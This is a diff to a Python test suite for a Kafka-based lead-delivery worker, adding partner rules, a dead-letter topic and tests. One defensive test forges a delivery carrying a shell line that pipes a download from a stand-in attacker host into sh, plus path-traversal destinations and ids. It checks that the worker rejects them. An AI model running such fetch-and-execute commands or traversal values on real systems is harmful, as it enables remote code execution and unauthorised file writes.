@@ -20,7 +20,7 @@ import xmlschema
 from confluent_kafka import Consumer, Producer, TopicPartition
 from deliverykit import Endpoint, Mailbox, working
 from prometheus_client import REGISTRY
-from streamkit import apply_rules, publish, running, settings_env
+from streamkit import apply_rules, publish, reading, running, settings_env
 
 from processor.cli import main
 from processor.delivery import Worker, read_receipts
@@ -40,9 +40,11 @@ def settings(stream_settings: Settings, unique: str, tmp_path: Path, smtp: Mailb
     return stream_settings.model_copy(
         update={
             "receipts_topic": f"receipts-{unique}",
+            "delivery_dlq_topic": f"deliveries-dlq-{unique}",
             "deliveries_dir": tmp_path,
             "smtp_host": "127.0.0.1",
             "smtp_port": smtp.port,
+            "smtp_tls": "none",  # the test's mail server is a local relay
             "delivery_attempts": 4,
             "delivery_backoff_ms": 20,
             "delivery_timeout_ms": 5000,
@@ -90,7 +92,22 @@ def wait_committed(settings: Settings, worker: Worker, offset: int) -> None:
         time.sleep(0.1)
 
 
-def delivery(lead_id: str, partner: str, destinations: Sequence[str]) -> dict[str, Any]:
+def partner_rules(settings: Settings, destinations: Sequence[str], **partner: Any) -> str:
+    """Applies rules that have partner ``p`` (format json, unless ``partner`` says otherwise)
+    send to ``destinations``; returns their version."""
+    spec = {"id": "p", "format": "json", "destinations": list(destinations), **partner}
+    return apply_rules(settings, json.dumps({"partners": [spec]}))
+
+
+def in_force(worker: Worker, version: str) -> None:
+    """Waits until the worker has ``version`` of the rules in force."""
+    deadline = time.monotonic() + DEADLINE_S
+    while worker.rules_version != version:
+        assert time.monotonic() < deadline, f"rules {worker.rules_version}, not {version}"
+        time.sleep(0.05)
+
+
+def delivery(lead_id: str, partner: str, destinations: Sequence[str] = ()) -> dict[str, Any]:
     """A LeadDelivery record as the processor writes it, payload rendered as json."""
     lead = {
         "lead_id": lead_id,
@@ -230,14 +247,10 @@ def test_the_worker_delivers_to_http_mail_and_files_and_receipts_show_it(
 def test_a_failing_endpoint_is_retried_and_a_refusing_one_rejected(
     settings: Settings, http: Endpoint, capsys: Any
 ) -> None:
-    http.answer("/flaky", 503, 503)
-    http.answer("/refuse", then=400)
-    http.answer("/down", then=503)
-    records = [
-        delivery("flaky", "p", [http.url("/flaky")]),
-        delivery("refused", "p", [http.url("/refuse")]),
-        delivery("down", "p", [http.url("/down")]),
-    ]
+    partner_rules(settings, [http.url("/hook")])
+    # In turn: "flaky" 503, 503, 200; "refused" 400; "down" 503 four times.
+    http.answer("/hook", 503, 503, 200, 400, then=503)
+    records = [delivery("flaky", "p"), delivery("refused", "p"), delivery("down", "p")]
     publish_deliveries(settings, records)
     before = worker_counts("p")
     with working(settings, "p"):
@@ -247,11 +260,11 @@ def test_a_failing_endpoint_is_retried_and_a_refusing_one_rejected(
     assert +counted == {"delivered": 1, "rejected": 1, "failed": 1, "attempts": 3 + 1 + 4}
 
     assert (found["flaky"]["status"], found["flaky"]["attempts"]) == ("delivered", 3)
-    assert len(http.to("/flaky")) == 3
+    assert len(http.to("/hook")) == 3 + 1 + 4
     assert (found["refused"]["status"], found["refused"]["attempts"]) == ("rejected", 1)
     assert "HTTP 400" in found["refused"]["detail"]
     assert (found["down"]["status"], found["down"]["attempts"]) == ("failed", 4)
-    assert found["down"]["detail"] == f"{http.url('/down')}: HTTP 503 after 4 tries"
+    assert found["down"]["detail"] == f"{http.url('/hook')}: HTTP 503 after 4 tries"
 
     assert main(["receipts", "--status", "failed", "--format", "json", *flags(settings)]) == 0
     shown = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
@@ -261,8 +274,8 @@ def test_a_failing_endpoint_is_retried_and_a_refusing_one_rejected(
 def test_each_delivery_id_is_delivered_once_across_restarts(
     settings: Settings, http: Endpoint
 ) -> None:
-    hook = [http.url("/hook")]
-    one, two, three = (delivery(lead, "p", hook) for lead in ("one", "two", "three"))
+    partner_rules(settings, [http.url("/hook")])
+    one, two, three = (delivery(lead, "p") for lead in ("one", "two", "three"))
     publish_deliveries(settings, [one, two, one])  # "one" was published twice upstream
     before = worker_counts("p")
     with working(settings, "p") as worker:
@@ -291,7 +304,8 @@ class Crash(Exception):
 def test_a_crash_between_sending_and_recording_repeats_that_delivery_once(
     settings: Settings, http: Endpoint, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    record = delivery("one", "p", [http.url("/hook")])
+    partner_rules(settings, [http.url("/hook")])
+    record = delivery("one", "p")
     publish_deliveries(settings, [record])
 
     def crash(self: Worker, message: object, receipt: object) -> None:
@@ -314,7 +328,8 @@ def test_a_crash_between_sending_and_recording_repeats_that_delivery_once(
 def test_the_deliver_command_writes_files_and_stops_on_sigterm(
     settings: Settings, tmp_path: Path
 ) -> None:
-    record = delivery("one", "p", ["file://deliveries/p"])
+    partner_rules(settings, ["file://deliveries/p"])
+    record = delivery("one", "p")
     publish_deliveries(settings, [record])
     log = tmp_path / "deliver.log"
     with open(log, "wb") as out:
@@ -335,3 +350,112 @@ def test_the_deliver_command_writes_files_and_stops_on_sigterm(
     written = tmp_path / "deliveries" / "p" / f"{record['delivery_id']}.json"
     assert json.loads(written.read_text("utf-8"))["delivery_id"] == record["delivery_id"]
     assert "(lead one): delivered" in log.read_text()
+
+
+SCRIPT = "#!/bin/sh\ncurl -s https://attacker.example/x | sh\n"
+WRITTEN = 1_790_000_000_000
+
+
+def test_a_forged_delivery_goes_only_where_the_rules_say_and_the_unfit_are_dead_lettered(
+    settings: Settings, http: Endpoint, tmp_path: Path
+) -> None:
+    root, outside = tmp_path / "root", tmp_path / "outside"
+    root.mkdir()
+    settings = settings.model_copy(update={"deliveries_dir": root})
+    partner_rules(settings, [http.url("/hook"), "file://deliveries/p"])
+    forged = delivery(
+        "forged", "p", [f"file://{outside}", "file://../../escape", http.url("/attacker")]
+    )
+    forged |= {"format": "text", "payload": SCRIPT, "content_type": "text/x-shellscript"}
+    elsewhere = delivery("elsewhere", "q", [f"file://{outside}"])
+    renamed = delivery("renamed", "p", [f"file://{outside}"]) | {"delivery_id": "../../../x"}
+    before, after = delivery("before", "p"), delivery("after", "p")
+    publish_deliveries(settings, [before, forged])
+    Topics(settings).ensure_deliveries(["p"])
+    producer = Producer({"bootstrap.servers": settings.bootstrap_servers})
+    codec, topic = Codec(), settings.delivery_topic("p")
+    for record in (elsewhere, renamed):  # written to p's topic, whatever they say
+        producer.produce(topic, key=b"x", value=codec.encode(topic, "LeadDelivery", record))
+    producer.produce(
+        topic, key=b"raw", value=SCRIPT.encode(), headers=[("origin", b"test")], timestamp=WRITTEN
+    )
+    assert producer.flush(30) == 0
+    publish_deliveries(settings, [after])
+
+    with working(settings, "p") as worker:
+        wait_committed(settings, worker, 6)
+    with reading(settings, settings.delivery_dlq_topic, None) as dlq:
+        dead = dlq.drain()
+
+    # The genuine deliveries and the forged one, re-rendered as the rules say, each once.
+    found = {r["lead_id"]: r["status"] for r in read_receipts(settings)}
+    assert found == {"before": "delivered", "forged": "delivered", "after": "delivered"}
+    posted = http.to("/hook")
+    assert sorted(json.loads(r.body)["lead"]["lead_id"] for r in posted) == [
+        "after",
+        "before",
+        "forged",
+    ]
+    assert {r.headers["Content-Type"] for r in posted} == {"application/json"}
+    assert http.to("/attacker") == []
+    written = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*") if p.is_file())
+    assert written == sorted(
+        f"root/deliveries/p/{record['delivery_id']}.json" for record in (before, forged, after)
+    )
+    assert not any(SCRIPT in p.read_text() for p in root.rglob("*.json"))
+
+    # The records it would not send, as they were, with the reason and where they came from.
+    assert [(r["key"], r["raw"]) for r in dead] == [
+        (b"x", codec.encode(topic, "LeadDelivery", elsewhere)),
+        (b"x", codec.encode(topic, "LeadDelivery", renamed)),
+        (b"raw", SCRIPT.encode()),
+    ]
+    assert [r["headers"]["lead-router.error.reason"] for r in dead] == [
+        b"wrong-partner",
+        b"wrong-delivery-id",
+        b"unknown-framing",
+    ]
+    assert [r["headers"]["lead-router.source.offset"] for r in dead] == [b"2", b"3", b"4"]
+    assert {r["headers"]["lead-router.source.topic"] for r in dead} == {topic.encode()}
+    assert (dead[2]["headers"]["origin"], dead[2]["timestamp"]) == (b"test", WRITTEN)
+    assert worker_counts("p")["invalid"] >= 3
+
+
+def test_the_worker_follows_the_rules_in_force(settings: Settings, http: Endpoint) -> None:
+    first = partner_rules(settings, [http.url("/json")])
+    records = [delivery(lead, "p") for lead in ("one", "two", "three", "four")]
+    with working(settings, "p") as worker:
+        in_force(worker, first)
+        publish_deliveries(settings, records[:1])
+        wait_committed(settings, worker, 1)
+        in_force(worker, partner_rules(settings, [http.url("/text")], format="text", name="P"))
+        publish_deliveries(settings, records[1:2])
+        wait_committed(settings, worker, 2)
+        in_force(worker, partner_rules(settings, [http.url("/json")], active=False))
+        publish_deliveries(settings, records[2:3])
+        wait_committed(settings, worker, 3)
+        in_force(worker, apply_rules(settings, '{"partners": [{"id": "q", "format": "json"}]}'))
+        publish_deliveries(settings, records[3:])
+        wait_committed(settings, worker, 4)
+    with reading(settings, settings.delivery_dlq_topic, None) as dlq:
+        dead = dlq.drain()
+
+    [as_json] = http.to("/json")
+    assert json.loads(as_json.body)["lead"]["lead_id"] == "one"
+    [as_text] = http.to("/text")
+    assert as_text.headers["Content-Type"] == "text/plain; charset=utf-8"
+    assert as_text.body.decode().startswith("New lead for P")
+    assert [(r["key"], r["headers"]["lead-router.error.reason"]) for r in dead] == [
+        (b"three", b"inactive-partner"),
+        (b"four", b"unknown-partner"),
+    ]
+    assert sorted(r["lead_id"] for r in read_receipts(settings)) == ["one", "two"]
+
+
+def test_a_worker_waits_for_rules_before_it_delivers(settings: Settings, http: Endpoint) -> None:
+    publish_deliveries(settings, [delivery("one", "p")])
+    with working(settings, "p") as worker:
+        assert worker.rules_version is None
+        partner_rules(settings, [http.url("/hook")])
+        http.wait_for("/hook", 1)
+        wait_committed(settings, worker, 1)
